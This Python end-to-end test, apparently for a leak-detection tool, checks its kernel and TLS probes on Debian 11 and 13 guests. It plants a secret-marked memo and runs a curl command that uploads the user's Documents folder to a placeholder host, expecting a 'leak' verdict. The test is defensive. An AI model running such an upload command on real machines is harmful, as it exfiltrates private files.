# SPDX-License-Identifier: Apache-2.0
"""The probes inside a guest are one file each for the kernels and TLS libraries of Debian 11 and 13, too.

What an old and a new kernel could break is looked at: that each probe starts, tells of a process, a file, a flow and a
plaintext, loses nothing, and that the chain of a finding is whole. Builds both images if they are missing.
"""

import json

from e2e import check, check_equal, run_json, scenario

PROBES = ("files", "processes", "sockets", "plaintext")
DOCUMENT = {"about": "A document is read and uploaded.",
            "documents": {"memo": {"format": "txt", "marking": "us/secret", "to": "/home/alex/Documents"}},
            "probes": {name: {"required": True} for name in PROBES},
            "steps": [{"plant": "memo"},
                      {"exec": "curl -sS -f -T /home/alex/Documents/* https://upload.example/in"},
                      {"exec": "uname -r"}]}

for product, kernel in (("clients-bullseye", "5.10."), ("clamav-trixie", "6.12.")):
    code, verdict, folder = run_json(scenario(json.dumps(DOCUMENT), product), product, "--seed", 3)
    for step in verdict["steps"]:
        check(step["done"], f"{product}: step {step['index'] + 1} ({step['text']}): {step['detail']}")
    check_equal((code, verdict["verdict"]), (1, "leak"), f"{product}: exit code and verdict")
    for probe in verdict["probes"]:
        check(probe["finished"] and not probe["problem"], f"{product}: the probe's account: {probe}")
        check_equal((probe["missing"], probe["dropped"]), (0, 0), f"{product}: what {probe['name']} missed")
        print(product, probe["name"], probe["types"])
    types = {kind for probe in verdict["probes"] for kind in probe["types"]}
    wanted = {"file.read/1", "process.exec/1", "socket.connect/1", "tls.plaintext/1"}
    check(wanted <= types, f"{product}: no event of {wanted - types}")
    upload = next(f for f in verdict["findings"] if f["channel"] == "https")
    acts = [(link["act"], link["process"]) for link in upload["chain"]["links"]]
    check(len(acts) >= 2 and all(process == "/usr/bin/curl" for _, process in acts), f"{product}: the chain: {upload['chain']}")
    given = [f for f in verdict["findings"] if f["channel"] == "probe plaintext" and f["class"] == "content/whole-file"]
    check(given, f"{product}: the plaintext was not found: {verdict['findings']}")
    release = (folder / "events.sqlite").read_bytes()
    check(kernel.encode() in release, f"{product}: the kernel is no {kernel}")
